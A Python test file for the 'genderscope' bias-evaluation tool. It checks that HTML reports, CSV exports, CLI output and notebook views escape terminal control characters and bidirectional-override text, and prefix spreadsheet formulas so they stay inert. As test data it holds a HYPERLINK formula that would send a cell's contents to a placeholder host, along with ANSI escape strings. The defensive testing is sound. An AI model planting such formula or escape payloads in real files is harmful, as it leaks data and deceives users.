"""Names and cautions come from models, servers and files: no page, spreadsheet or terminal takes orders from them."""

import csv
import io

import pytest

import genderscope
from genderscope.core.questions import Choice, ChoiceAnswer
from genderscope.models import Batch, Plan, WordModel
from genderscope.runs import csv_file
from genderscope.util.safe_text import spreadsheet_safe

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open me")'
HOSTILE = "The server said \x1b[31mred\x1b[0m and \u202eback\u202c and \x07 and \u2066inside\u2069."
#: what must not be in anything that is shown
UNSEEN = ("\x1b", "\u202e", "\u2066", "\x07", "\\u001b", "\\u202e")


class Hostile(WordModel):
    """A model whose name is a formula and whose cautions control a terminal."""

    kind = "hostile"
    answers = frozenset({Choice})
    fingerprint = "hostile"

    def describe(self):
        return {"name": self.name, "kind": self.kind, "fingerprint": self.fingerprint, "method": HOSTILE}

    def cautions(self):
        return [HOSTILE]

    def load(self):
        pass

    def plan(self, questions, batch_size):
        return Plan((), (Batch(tuple(range(len(questions))), tuple(questions)),))

    def answer(self, batch):
        answers = [ChoiceAnswer((1.0, 0.5), ((1,), (2,))) for _ in batch.items]
        answers[0] = ChoiceAnswer(None, unread=HOSTILE)
        return answers


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("foreign")
    data = folder / "own.csv"
    texts = [f"I was there {k} {HOSTILE if k == 1 else ''}" for k in range(40)]
    data.write_text("sentence,stereotype\n" + "".join(f'"{text}",{k % 16 + 1}\n' for k, text in enumerate(texts)))
    for k, name in enumerate((FORMULA, "@SUM(1)")):
        genderscope.evaluate("gest", Hostile(name), data=str(data), out=folder / "runs" / str(k))
    return folder / "runs"


def assert_clean(text):
    assert not [mark for mark in UNSEEN if mark in text]


@pytest.mark.long
def test_a_report_shows_control_characters_instead_of_obeying_them(runs):
    page = (runs / "0" / "report.html").read_text(encoding="utf-8")
    assert_clean(page)
    assert page.count("\u241b[31mred") >= 3, "the caution, the reason and the sentence are there"


@pytest.mark.parametrize("command", ["scorecard", "compare", "show", "report"])
def test_no_command_passes_them_on(cli, runs, tmp_path, command):
    given = {"compare": (runs / "0", runs / "1"), "show": (runs / "0",)}.get(command, (runs,))
    out = {
        "scorecard": ("--html", tmp_path / "card.html", "--csv", tmp_path / "card.csv"),
        "report": ("--out", tmp_path / "page.html"),
        "compare": ("--html", tmp_path / "page.html"),
    }.get(command, ())
    given = (runs / "0", runs / "1") if command == "report" else given
    done = cli(command, *given, *out)
    assert done.returncode == 0, done.stderr
    assert_clean(done.stdout + done.stderr)
    for path in tmp_path.rglob("*"):
        if path.suffix in (".html", ".csv", ".md", ".tex", ".svg"):
            assert_clean(path.read_text(encoding="utf-8"))


def test_a_notebook_shows_them_too(runs):
    result = genderscope.load_run(runs / "0")
    assert_clean(result._repr_html_())
    assert_clean(genderscope.compare(runs / "0", runs / "1")._repr_html_())


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_cell_of_a_spreadsheet_is_a_formula(cli, runs, tmp_path):
    assert cli("scorecard", runs, "--csv", tmp_path / "card.csv").returncode == 0
    texts = [(tmp_path / "card.csv").read_text()]
    texts.append(cli("show", runs / "0", "--format", "csv").stdout)
    for text in texts:
        found = cells(text)
        assert f"'{FORMULA}" in found
        assert not [cell for cell in found if cell.startswith(("=", "+", "@"))]


def test_numbers_and_plain_text_stay_as_they_are(tmp_path):
    row = (-1.5, 3, None, True, "plain", "", "-1 of 2", " =A1", "@x", "+1", "a=b")
    shown = (-1.5, 3, None, True, "plain", "", "'-1 of 2", "' =A1", "'@x", "'+1", "a=b")
    assert tuple(map(spreadsheet_safe, row)) == shown
    with csv_file(tmp_path / "table.csv") as writer:
        writer.writerow(row)
    assert (tmp_path / "table.csv").read_text() == "-1.5,3,,True,plain,,'-1 of 2,' =A1,'@x,'+1,a=b\n"


def test_translations_are_data_and_are_written_exactly(cli, tmp_path):
    (tmp_path / "in.txt").write_text("=A1\n+1\n", encoding="utf-8")
    (tmp_path / "said.csv").write_text("source,translation\n=A1,=B1\n+1,@x\n", encoding="utf-8")
    model = f"file:{tmp_path / 'said.csv'}"
    done = cli("translate", "--model", model, "--to", "sk", tmp_path / "in.txt", "-o", tmp_path / "out.csv")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == "source,translation\n=A1,=B1\n+1,@x\n"
